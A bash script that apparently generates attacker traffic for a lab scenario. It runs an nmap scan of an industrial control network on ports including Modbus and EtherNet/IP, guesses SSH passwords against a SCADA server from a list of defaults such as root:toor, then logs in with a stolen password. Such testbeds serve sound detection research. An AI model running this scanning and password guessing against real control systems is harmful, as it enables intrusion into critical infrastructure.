#!/usr/bin/env bash
# Scenario 1's attacker, on the maintenance server. testbed/run copies this
# file next to the run's keys and the vendor's SSH session starts it there,
# so every packet it causes comes from the maintenance server:
#   1. a TCP connect scan of the control network (nmap, unprivileged);
#   2. SSH password guessing against the SCADA server, one guess per
#      connection (each a separate TCP session), then the right password.
# Environment: SCADA (address), USER (account), PASS (its password).
set -uo pipefail

echo "== nmap"
nmap -sT -T4 -n --max-retries 1 \
	-p 1-200,443,502,1433,3389,5900,8080,20295,44818 192.168.10.0/24 |
	grep -E '^(Nmap scan report|[0-9]+/tcp +open)' || true

echo "== ssh guessing against $SCADA"
ssh_try() {
	sshpass -p "$2" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
		-o LogLevel=ERROR -o ConnectTimeout=5 -o PubkeyAuthentication=no \
		-o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 \
		"$1@$SCADA" "${3:-true}"
}
for guess in admin:admin admin:password root:root root:toor "$USER:maint" \
	"$USER:password" "$USER:Maint2023" "$USER:scada"; do
	if ssh_try "${guess%%:*}" "${guess#*:}"; then
		echo "guess ${guess%%:*}: accepted"
	else
		echo "guess ${guess%%:*}: rejected"
	fi
	sleep 0.5
done
echo "== the stolen password"
ssh_try "$USER" "$PASS" 'id; hostname; uptime'
